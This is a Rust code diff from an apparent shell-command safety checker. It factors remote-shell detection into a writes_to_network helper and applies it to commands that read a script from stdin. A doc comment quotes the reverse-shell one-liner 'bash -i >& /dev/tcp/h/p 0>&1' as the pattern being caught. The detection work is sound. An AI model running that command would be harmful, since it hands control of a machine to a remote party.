@@ -115,6 +115,9 @@ impl Run<'_> {
         let part = site.command.text.as_str();
         // `source /dev/stdin` and `. /dev/stdin` run shell text too.
         let is_shell = crate::rules::is_shell(who) || matches!(who, "source" | ".");
+        if is_shell && writes_to_network(site.command) {
+            return self.floor(FloorRule::NetRemoteShell, part, depth);
+        }
         match feeds::stdin_producer(site.script, site.command) {
             feeds::Producer::Literal(text) if is_shell => {
                 self.note(depth, || format!("{who} reads a literal script from stdin"));
@@ -157,13 +160,7 @@ impl Run<'_> {
     pub(super) fn program_file(&mut self, who: &str, file: &Word, ctx: &Ctx) {
         let (site, depth) = (ctx.site, ctx.depth);
         let part = site.command.text.as_str();
-        // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to the network.
-        if site
-            .command
-            .redirects
-            .iter()
-            .any(|r| feeds::is_network_path(&r.target.value))
-        {
+        if writes_to_network(site.command) {
             return self.floor(FloorRule::NetRemoteShell, part, depth);
         }
         if let shell::Stdin::File(from) = &site.command.stdin
@@ -188,4 +185,14 @@ impl Run<'_> {
         }
         self.script_file(who, ScriptKind::Shell, file, ctx);
     }
+}
+
+/// `bash -i >& /dev/tcp/h/p 0>&1`: a shell whose output goes to a network
+/// connection (and, with `0>&1`, whose input comes from it): a shell for
+/// whoever is at the other end.
+fn writes_to_network(command: &shell::SimpleCommand) -> bool {
+    command
+        .redirects
+        .iter()
+        .any(|r| feeds::is_network_path(&r.target.value))
 }
